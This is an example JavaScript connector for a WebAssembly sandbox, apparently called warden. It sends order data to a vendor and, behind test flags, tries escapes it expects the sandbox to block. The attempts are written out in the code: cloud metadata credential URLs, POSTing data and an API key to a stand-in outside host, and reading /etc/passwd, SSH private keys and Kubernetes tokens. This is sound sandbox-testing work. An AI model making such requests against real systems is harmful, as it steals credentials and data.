// Example connector in JavaScript, as a third party would ship it: the job of
// guests/connectors/vendor-connector, written with `fetch` and built with componentize-js
// (scripts/foreign.d/30-js.sh) into target/foreign/js/vendor-connector.wasm.
//
// It parses /data/orders.csv (`order_id,sku,quantity,unit_price`) and POSTs the orders as JSON
// to $VENDOR_ORDERS_URL naming the `vendor-key` secret, which warden injects as the vendor's API
// key header. Its manifest is examples/vendor-connector-js/vendor-connector-js.warden.toml.
//
// The `--try-…` flags attempt what a malicious or compromised vendor build would, print
// `refused: …` for each refusal or `ALLOWED: …` when one got through (exit code 2):
//
// - `--try-metadata`: the cloud instance metadata service (169.254.169.254);
// - `--try-other-host`: ship the orders, or the vendor key, to another host;
// - `--try-outside-data`: read files outside /data;
// - `--try-reveal`: read the vendor key's value, or open a secret the manifest does not grant
//   (the one flag the Rust vendor connector does not have).
//
// The attempts use the SDK's `send` (wasi:http) rather than `fetch`: `fetch` rejects a
// refusal with the same TypeError as a connection failure, and a refused fetch with a body can
// abort the component (see docs/guests-js.md).

import {
  WardenError,
  args,
  env,
  exit,
  fetchWithSecret,
  readTextFile,
  secret,
  send,
} from '../../sdk/js/index.js';

const ORDERS = '/data/orders.csv';
const SECRET = 'vendor-key';
const FLAGS = ['--try-metadata', '--try-other-host', '--try-outside-data', '--try-reveal'];

/** Parses `12.50` (at most two decimals) into cents, or undefined. */
function cents(text) {
  const m = /^(\d+)(?:\.(\d{1,2}))?$/.exec(text);
  if (!m) return undefined;
  return Number(m[1]) * 100 + Number((m[2] ?? '0').padEnd(2, '0'));
}

/** The orders of the CSV, checked; throws an Error naming the line. */
function parse(csv) {
  const lines = csv.split('\n');
  const header = lines.shift();
  if (header === undefined || header.trim() === '') throw new Error('the file is empty');
  const columns = header.split(',').map((c) => c.trim());
  const col = (name) => {
    const i = columns.indexOf(name);
    if (i < 0) throw new Error(`no \`${name}\` column in the header`);
    return i;
  };
  const [id, sku, quantity, price] = ['order_id', 'sku', 'quantity', 'unit_price'].map(col);
  const orders = [];
  lines.forEach((line, n) => {
    if (line.trim() === '') return;
    const fields = line.split(',').map((f) => f.trim());
    const at = `line ${n + 2}`;
    if (fields.length < columns.length) throw new Error(`${at}: too few fields`);
    if (!/^\d+$/.test(fields[quantity])) throw new Error(`${at}: quantity is not a whole number`);
    const unit = cents(fields[price]);
    if (unit === undefined) throw new Error(`${at}: unit_price is not an amount`);
    orders.push({ id: fields[id], sku: fields[sku], quantity: Number(fields[quantity]), unit });
  });
  return orders;
}

function payload(orders) {
  return JSON.stringify({
    orders: orders.map((o) => ({
      order_id: o.id,
      sku: o.sku,
      quantity: o.quantity,
      unit_price_cents: o.unit,
    })),
  });
}

/** Counts what got through. */
class Tries {
  allowed = 0;

  /** Runs `attempt`: a refusal by warden is expected; anything else counts as let through. */
  expectRefused(what, attempt) {
    try {
      attempt();
      this.allow(what, 'it succeeded');
    } catch (e) {
      if (e instanceof WardenError && e.refused) console.log(`refused: ${what}: ${e.message}`);
      else this.allow(what, `got past the policy, then: ${e.message}`);
    }
  }

  allow(what, detail) {
    console.log(`ALLOWED: ${what}: ${detail}`);
    this.allowed += 1;
  }
}

function tryMetadata(tries) {
  for (const url of [
    'http://169.254.169.254/latest/meta-data/',
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://metadata.google.internal/computeMetadata/v1/',
  ]) {
    tries.expectRefused(`GET ${url}`, () => send('GET', url));
  }
}

function tryOtherHost(tries, body) {
  const url = 'https://analytics.vendor-partner.example/ingest';
  const json = { 'content-type': 'application/json' };
  tries.expectRefused(`POST the orders to ${url}`, () => send('POST', url, { headers: json, body }));
  tries.expectRefused(`POST the ${SECRET} secret to ${url}`, () =>
    send('POST', url, { headers: json, body: '{}', secret: SECRET }),
  );
}

function tryOutsideData(tries) {
  for (const path of [
    '/etc/passwd',
    '/data/../etc/passwd',
    '/config/vendor.toml',
    '/root/.ssh/id_ed25519',
    '/var/run/secrets/kubernetes.io/serviceaccount/token',
  ]) {
    tries.expectRefused(`read ${path}`, () => readTextFile(path));
  }
}

function tryReveal(tries) {
  // Opening the granted secret is allowed: the handle says where warden injects it.
  const key = secret(SECRET);
  console.log(`the ${SECRET} secret goes to ${key.binding()} as ${key.header()}`);
  tries.expectRefused(`read the value of the ${SECRET} secret`, () => key.reveal());
  tries.expectRefused('open the secret "aws-root"', () => secret('aws-root'));
}

async function main() {
  const flags = args();
  for (const a of flags) {
    if (!FLAGS.includes(a)) {
      console.error(`vendor-connector: unknown argument ${JSON.stringify(a)}`);
      return 64;
    }
  }
  const url = env('VENDOR_ORDERS_URL');
  if (url === undefined) {
    console.error("vendor-connector: VENDOR_ORDERS_URL is not set: the manifest's [env] sets it");
    return 1;
  }
  let orders;
  try {
    orders = parse(readTextFile(ORDERS));
  } catch (e) {
    console.error(`vendor-connector: ${ORDERS}: ${e.message}`);
    return 1;
  }
  const total = orders.reduce((sum, o) => sum + o.quantity * o.unit, 0);
  const body = payload(orders);
  let response;
  try {
    response = await fetchWithSecret(SECRET, url, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body,
    });
  } catch (e) {
    console.error(`vendor-connector: ${url}: ${e}`);
    return 1;
  }
  if (!response.ok) {
    console.error(`vendor-connector: the vendor refused the orders: ${response.status} ${await response.text()}`);
    return 1;
  }
  const amount = `${Math.floor(total / 100)}.${String(total % 100).padStart(2, '0')}`;
  console.log(`sent ${orders.length} orders (total ${amount}) to the vendor: ${response.status}`);

  const tries = new Tries();
  for (const flag of flags) {
    if (flag === '--try-metadata') tryMetadata(tries);
    else if (flag === '--try-other-host') tryOtherHost(tries, body);
    else if (flag === '--try-reveal') tryReveal(tries);
    else tryOutsideData(tries);
  }
  if (tries.allowed > 0) {
    console.error(`vendor-connector: ${tries.allowed} refused thing(s) got through`);
    return 2;
  }
  return 0;
}

// The wasi:cli/run export: componentize-js runs the event loop until the promise settles.
export const run = {
  async run() {
    const code = await main();
    if (code !== 0) exit(code);
  },
};
